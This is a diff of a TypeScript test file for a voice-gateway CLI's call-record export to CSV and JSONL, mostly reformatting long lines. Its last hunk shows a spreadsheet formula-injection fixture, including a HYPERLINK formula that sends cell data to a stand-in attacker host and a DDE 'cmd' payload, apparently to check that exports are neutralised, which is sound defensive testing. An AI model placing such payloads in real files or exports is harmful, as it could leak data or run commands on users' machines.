@@ -83,7 +83,6 @@ const RECENT: TurnRecord[] = [
   }),
 ];
 
-
 /** RFC 4180: quoted fields may hold commas, doubled quotes and line breaks; rows end with CRLF. */
 function parseCsv(text: string): string[][] {
   const rows: string[][] = [];
@@ -181,7 +180,10 @@ describe('voice-llm-gateway calls export (real SQLite store)', () => {
     assert.deepEqual(header, [...CSV_HEADER]);
     assert.equal(header!.length, Object.keys(RECENT[0]!).length);
     assert.equal(rows.length, 3);
-    assert.deepEqual(rows.map((row) => fromCsv(header!, row)), RECENT);
+    assert.deepEqual(
+      rows.map((row) => fromCsv(header!, row)),
+      RECENT,
+    );
     // Nested values are JSON text in one column.
     assert.equal(rows[1]![header!.indexOf('toolRuns')], JSON.stringify(RECENT[1]!.toolRuns));
   });
@@ -192,13 +194,22 @@ describe('voice-llm-gateway calls export (real SQLite store)', () => {
     assert.ok(output.endsWith('\n'));
     const lines = output.trimEnd().split('\n');
     assert.equal(lines.length, 3);
-    assert.deepEqual(lines.map((line) => JSON.parse(line) as TurnRecord), RECENT);
+    assert.deepEqual(
+      lines.map((line) => JSON.parse(line) as TurnRecord),
+      RECENT,
+    );
   });
 
   it('takes dates, longer durations and the "calls" word itself', async () => {
     const all = await run(['calls', 'export', '--since', '2026-02-28', '--format', 'jsonl', '--config', configFile]);
     assert.equal(all.code, 0, all.error);
-    assert.deepEqual(all.output.trimEnd().split('\n').map((line) => (JSON.parse(line) as TurnRecord).id), ['old-1', 'new-1', 'new-2', 'new-3']);
+    assert.deepEqual(
+      all.output
+        .trimEnd()
+        .split('\n')
+        .map((line) => (JSON.parse(line) as TurnRecord).id),
+      ['old-1', 'new-1', 'new-2', 'new-3'],
+    );
     const week = await run(['export', '--since', '7d', '--config', configFile]);
     assert.equal(week.output.trimEnd().split('\n').length, 4);
     const none = await run(['export', '--since', '5m', '--format', 'csv', '--config', configFile]);
@@ -214,7 +225,10 @@ describe('voice-llm-gateway calls export (real SQLite store)', () => {
     assert.equal(output, '');
     assert.match(error, /to .*turns\.csv/);
     const [header, ...rows] = parseCsv(readFileSync(file, 'utf8'));
-    assert.deepEqual(rows.map((row) => fromCsv(header!, row)), RECENT);
+    assert.deepEqual(
+      rows.map((row) => fromCsv(header!, row)),
+      RECENT,
+    );
     // Relative to the working folder.
     const relative = await run(['export', '--since', '1h', '--config', configFile, '-o', 'relative.jsonl']);
     assert.equal(relative.code, 0, relative.error);
@@ -228,7 +242,16 @@ describe('voice-llm-gateway calls export (real SQLite store)', () => {
     const relativeConfig = join(dir, 'relative.yaml');
     writeFileSync(
       relativeConfig,
-      ['server:', '  dataDir: ./data', 'records:', '  sqliteFile: calls.db', 'providers:', '  demo: { type: scripted }', 'agents:', '  sales: { provider: demo }'].join('\n'),
+      [
+        'server:',
+        '  dataDir: ./data',
+        'records:',
+        '  sqliteFile: calls.db',
+        'providers:',
+        '  demo: { type: scripted }',
+        'agents:',
+        '  sales: { provider: demo }',
+      ].join('\n'),
     );
     const relative = await run(['export', '--since', '1h', '--config', 'relative.yaml']);
     assert.equal(relative.code, 0, relative.error);
@@ -268,7 +291,10 @@ describe('voice-llm-gateway calls export (real SQLite store)', () => {
     const emptyData = join(dir, 'empty-data');
     mkdirSync(emptyData);
     const config = join(dir, 'empty.yaml');
-    writeFileSync(config, `server: { dataDir: ${JSON.stringify(emptyData)} }\nproviders: { demo: { type: scripted } }\nagents: { a: { provider: demo } }\n`);
+    writeFileSync(
+      config,
+      `server: { dataDir: ${JSON.stringify(emptyData)} }\nproviders: { demo: { type: scripted } }\nagents: { a: { provider: demo } }\n`,
+    );
     const { code, error } = await run(['export', '--since', '1h', '--config', config]);
     assert.equal(code, 1);
     assert.match(error, /no records database at .*records\.db/);
@@ -276,7 +302,12 @@ describe('voice-llm-gateway calls export (real SQLite store)', () => {
   });
 
   it('ends the range with --until (exclusive) and selects test traffic with --synthetic', async () => {
-    const ids = (output: string) => output.trimEnd().split('\n').filter((line) => line !== '').map((line) => (JSON.parse(line) as TurnRecord).id);
+    const ids = (output: string) =>
+      output
+        .trimEnd()
+        .split('\n')
+        .filter((line) => line !== '')
+        .map((line) => (JSON.parse(line) as TurnRecord).id);
     const until = await run(['export', '--since', '2h', '--until', minutesAgo(40), '--config', configFile]);
     assert.equal(until.code, 0, until.error);
     assert.deepEqual(ids(until.output), ['old-1', 'new-1']);
@@ -334,7 +365,10 @@ describe('voice-llm-gateway calls export (real SQLite store)', () => {
   it('streams a large export page by page into a slow output, in order and complete', async () => {
     const dataDir = join(dir, 'big-data');
     const config = join(dir, 'big.yaml');
-    writeFileSync(config, `server: { dataDir: ${JSON.stringify(dataDir)} }\nproviders: { demo: { type: scripted } }\nagents: { a: { provider: demo } }\n`);
+    writeFileSync(
+      config,
+      `server: { dataDir: ${JSON.stringify(dataDir)} }\nproviders: { demo: { type: scripted } }\nagents: { a: { provider: demo } }\n`,
+    );
     const store = openRecordStore({ sqlitePath: join(dataDir, 'records.db'), queueSize: 5000, batchSize: 500, flushIntervalMs: 10 });
     await store.ready();
     const count = 1234;
@@ -355,9 +389,18 @@ describe('voice-llm-gateway calls export (real SQLite store)', () => {
       },
     });
     const error = textSink();
-    const code = await runCalls(['export', '--since', '1h', '--config', config], { output: slow, error, env: {}, cwd: dir, now: () => NOW });
+    const code = await runCalls(['export', '--since', '1h', '--config', config], {
+      output: slow,
+      error,
+      env: {},
+      cwd: dir,
+      now: () => NOW,
+    });
     assert.equal(code, 0, error.text());
-    const ids = text.trimEnd().split('\n').map((line) => (JSON.parse(line) as TurnRecord).id);
+    const ids = text
+      .trimEnd()
+      .split('\n')
+      .map((line) => (JSON.parse(line) as TurnRecord).id);
     assert.equal(ids.length, count);
     assert.deepEqual(ids, [...ids].sort());
     assert.equal(new Set(ids).size, count);
@@ -370,7 +413,7 @@ describe('voice-llm-gateway calls export (real SQLite store)', () => {
       startedAt: minutesAgo(5),
       callerText: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
       answerText: '+1+1',
-      userData: '-2+3+cmd|\' /C calc\'!A0',
+      userData: "-2+3+cmd|' /C calc'!A0",
       errorMessage: '@SUM(A1:A2)',
       channelId: '\t=1+1',
       calleeNumber: '\r=1+1',
